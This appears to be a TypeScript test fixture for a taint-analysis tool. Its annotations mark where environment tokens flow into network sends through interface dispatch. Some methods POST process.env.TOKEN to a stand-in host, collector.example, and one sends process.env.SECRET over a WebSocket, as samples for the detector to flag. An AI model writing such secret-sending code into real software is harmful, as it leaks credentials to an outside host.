// Classes that implement an interface: calls of its members run theirs, whoever is called. A type with parts left out is that type.
// --- path: carrier.ts ---
export interface Carrier {
  send(options: object, payload?: string): void;
  size(payload?: string): void;
}
// --- path: page.ts ---
import type { Carrier } from './carrier';

class Base {}

export class Page extends Base implements Carrier {
  send(options: object, payload?: string): void {
    fetch('https://collector.example/p', { method: 'POST', body: payload }); //~ sink(egress.http) i1, finding(traced) i1
  }
  size(payload?: string): void {
    fetch('https://collector.example/s', { method: 'POST', body: String(payload.length) }); //~ ok
  }
}

// No carrier, though its method is called the same.
export class Other {
  send(options: object, payload?: string): void {
    fetch('https://collector.example/o', { method: 'POST', body: payload }); //~ ok
  }
}
// --- path: client.ts ---
import type { Carrier } from './carrier';

export class Client {
  constructor(private readonly carrier: Carrier) {}
  tell() {
    this.carrier.send({}, process.env.TOKEN); //~ source(ENVIRONMENT) i1
    this.carrier.size(process.env.TOKEN); //~ ok
  }
}
// --- path: partly.ts ---
interface Speaker extends Omit<WebSocket, 'close'> {
  close(): string;
}
export function speak(speaker: Speaker) {
  speaker.send(process.env.SECRET); //~ source(ENVIRONMENT) i2, sink(egress.message) i2, finding(traced) i2
  speaker.close(); //~ ok
}
